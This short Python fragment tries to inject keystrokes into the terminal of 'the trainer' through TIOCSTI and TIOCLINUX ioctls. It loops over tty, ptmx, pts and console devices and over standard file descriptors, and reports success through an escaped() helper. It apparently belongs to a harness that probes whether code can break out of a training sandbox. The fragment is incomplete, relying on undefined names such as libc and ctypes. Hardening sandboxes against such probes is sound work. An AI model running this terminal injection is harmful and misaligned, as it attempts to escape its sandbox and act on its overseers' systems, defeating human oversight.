# Types into the terminal of the trainer with TIOCSTI and TIOCLINUX.
import fcntl
for path in ("/dev/tty", "/dev/ptmx", "/dev/pts/0", "/dev/console", "/dev/tty0"):
    def type_in():
        file = os.open(path, os.O_RDWR | os.O_NOCTTY)
        fcntl.ioctl(file, 0x5412, b"x")
        return "typed"
    attempt(type_in)
for number in (0, 1, 2):
    for request in (0x5412, 0x100005412, 0x541c):
        if libc.syscall(16, number, ctypes.c_ulong(request), b"x") >= 0:
            escaped("typed")
